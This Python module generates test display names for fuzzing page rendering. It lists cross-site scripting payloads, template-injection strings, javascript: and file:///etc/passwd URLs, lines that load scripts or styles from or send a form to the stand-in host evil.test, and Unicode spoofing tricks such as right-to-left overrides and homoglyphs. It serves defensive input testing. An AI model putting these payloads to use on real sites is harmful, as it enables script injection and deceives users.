"""Names and lines that somebody might choose to break a page, or to deceive its readers."""

from __future__ import annotations

import random

_DEED = "window.__hacked=1"

_MARKUP = (
    "<script>{deed}</script>",
    "<script src=//evil.test/x.js></script>",
    "</script><script>{deed}</script>",
    "<img src=x onerror={deed}>",
    "<img src=//evil.test/x.png>",
    "<svg onload={deed}>",
    "<svg/onload={deed}>",
    "<svg><script>{deed}</script></svg>",
    "<svg><animate onbegin={deed} attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:{deed}'>click",
    (
        "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style>"
        "<a title='</style><img src onerror={deed}>'>"
    ),
    "<body onload={deed}>",
    "<iframe src=javascript:{deed}>",
    "<iframe srcdoc='<script>parent.__hacked=1</script>'>",
    "<object data=javascript:{deed}>",
    "<embed src=javascript:{deed}>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<style>*{{display:none}}</style>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<details open ontoggle={deed}>x",
    "<video><source onerror={deed}>",
    "<audio src=x onerror={deed}>",
    "<input autofocus onfocus={deed}>",
    "<select autofocus onfocus={deed}>",
    "<marquee onstart={deed}>x",
    "<a href=javascript:{deed}>here</a>",
    "<a href='//evil.test'>here</a>",
    "<template><script>{deed}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={deed}>'>",
    "<!--><img src=x onerror={deed}>-->",
    "<![CDATA[<script>{deed}</script>]]>",
    "<plaintext>",
    "<textarea><script>{deed}</script>",
    "<xmp><img src=x onerror={deed}>",
    '"><script>{deed}</script>',
    "'><script>{deed}</script>",
    '" onmouseover={deed} x="',
    "' onfocus={deed} autofocus x='",
    "` onerror={deed} `",
    "--><script>{deed}</script>",
    "]]><script>{deed}</script>",
    "&lt;script&gt;{deed}&lt;/script&gt;",
    "&#60;script&#62;{deed}&#60;/script&#62;",
    "\\u003cscript\\u003e{deed}\\u003c/script\\u003e",
    "%3Cscript%3E{deed}%3C/script%3E",
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "{{{{constructor.constructor('{deed}')()}}}}",
    "${{{deed}}}",
    "#{{{deed}}}",
    "<%= {deed} %>",
    "{{@html '<b>x'}}",
    "{{@debug x}}",
    "[[${{{deed}}}]]",
    "{{{{ {deed} }}}}",
    "{{n}}",
    "{{name}}",
    "{{card}}",
    "%s %d %n",
    "%(x)s",
    "$1 $& $`",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "undefined",
    "null",
    "NaN",
    "true",
    "[object Object]",
)
_URLS = (
    "javascript:{deed}",
    "JaVaScRiPt:{deed}",
    "java\tscript:{deed}",
    "data:text/html,<script>{deed}</script>",
    "vbscript:{deed}",
    "//evil.test/x",
    "http://evil.test",
    "file:///etc/passwd",
    "blob:http://x/1",
    "../../etc/passwd",
)
_TRICKS = (
    "Ann\u202eneB",
    "\u202dAnn",
    "\u2066Ann\u2069",
    "\u200bAnn",
    "An\u200dn",
    "Ann\ufeff",
    "\u00adAnn",
    "\u2060Ann",
    "\u180eAnn",
    "\u0410nn",
    "\u0391nn",
    "\u13aann",
    "\uff21\uff4e\uff4e",
    "\U0001d400\U0001d427\U0001d427",
    "Ann\u0000",
    "Ann\u0007",
    "Ann\u001b[31m",
    "Ann\r\nBen",
    "Ann\u2028Ben",
    "Ann\u0085Ben",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "é" * 20,
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇩🇪🇺🇸",
    "👍🏿" * 5,
    "\U000e0041nn",
    "\ue000\ue001",
    "ﷺ",
    "ﷺ" * 24,
    "مرحبا",
    "שלום Ann",
    "नमस्ते",
    "ไทย",
    "日本語の名前",
    "ﬁ ﬂ ﬃ",
    "①②③",
    "Ⅷ",
    "½",
    "ß" * 24,
    "İstanbul",
    "\u0131" * 24,
    " ",
    "\t",
    "",
    "   Ann   ",
    "A" * 24,
    "A" * 25,
    "A" * 300,
    "A" * 5000,
    "W" * 24,
    ".",
    "-",
    "_",
    "😀" * 300,
    "a b " * 60,
    "You",
    "you",
    "Dealer",
    "Bot",
    "Hollywood",
    "Cary",
    "Cary bot",
    "admin",
    "Server",
    "System: the match is over",
)


def lines(number: int, seed: int = 7) -> list[str]:
    """This many different ones, every kind among them."""
    chance = random.Random(seed)
    known = [each.format(deed=_DEED) for each in (*_MARKUP, *_TEMPLATES, *_URLS)] + list(_TRICKS)
    found = dict.fromkeys(known)
    while len(found) < number:
        parts = chance.sample(known, 2)
        mixed = chance.choice(
            ("{0}{1}", "{0} {1}", "x{0}", "{0}x", "<b>{0}</b>", '"{0}"', "{1}\u202e{0}")
        )
        text = mixed.format(*parts) if "{1}" in mixed else mixed.replace("{0}", parts[0])
        found[_altered(chance, text)[: chance.choice((24, 60, 300))]] = None
    return list(found)[:number]


def _altered(chance: random.Random, text: str) -> str:
    """Vary a text slightly: case, blanks, invisible characters."""
    match chance.randrange(6):
        case 0:
            return text.swapcase()
        case 1:
            return text.replace(" ", "/")
        case 2:
            at = chance.randrange(len(text) + 1)
            return text[:at] + chance.choice("\u200b\u0000\t\u202e\u00a0'\"`<>") + text[at:]
        case 3:
            return text.replace("<", "&lt;" if chance.random() < 0.5 else "\uff1c")
        case _:
            return text + chance.choice(("", "!", " 7", ">", "'", "é"))
